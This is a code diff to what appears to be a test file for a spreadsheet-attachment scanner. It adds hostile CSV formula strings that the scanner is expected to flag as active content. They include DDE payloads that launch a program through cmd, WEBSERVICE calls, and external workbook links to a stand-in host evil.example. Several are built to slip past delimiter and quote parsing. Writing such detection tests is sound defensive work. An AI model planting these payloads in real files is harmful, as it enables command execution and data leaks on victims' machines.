@@ -100,6 +100,16 @@ const HOSTILE: [string, () => Uint8Array | string, string][] = [
   ['a cell of a file elsewhere', () => "a,='\\\\evil.example\\share\\[a.xlsx]S'!A1\n", 'ATTACHMENT_ACTIVE'],
   ['a cell of a file on the web', () => "='http://evil.example/[a.xlsx]S'!A1\n", 'ATTACHMENT_ACTIVE'],
   ['a cell of a file without quotes', () => '=[a.xlsx]S!A1\n', 'ATTACHMENT_ACTIVE'],
+  ['a quotation that only semicolons begin', () => 'a;"b,=WEBSERVICE(A1),c"\n', 'ATTACHMENT_ACTIVE'],
+  ['a quotation that only commas begin', () => 'a,"b;=cmd|\' /C calc\'!A0;c"\n', 'ATTACHMENT_ACTIVE'],
+  ['a quotation that only tabs begin', () => 'a\t"b,=cmd|\' /C calc\'!A0,c"\n', 'ATTACHMENT_ACTIVE'],
+  ['sheets with quotation marks around a function', () => `='a"b'!A1&WEBSERVICE(A2)&'c"d'!A1\n`, 'ATTACHMENT_ACTIVE'],
+  ['sheets with quotation marks around a program', () => `='a"b'!A1+cmd|'/C calc'!A0+'c"d'!A1\n`, 'ATTACHMENT_ACTIVE'],
+  [
+    'sheets with quotation marks around a file',
+    () => `${String.raw`='a"b'!A1+'\\evil\s\[a.xlsx]S'!A1+'c"d'!A1`}\n`,
+    'ATTACHMENT_ACTIVE',
+  ],
   ['a function between apostrophes', () => "='&WEBSERVICE(A1)&'\n", 'ATTACHMENT_ACTIVE'],
   [
     'a sheet by another ending',
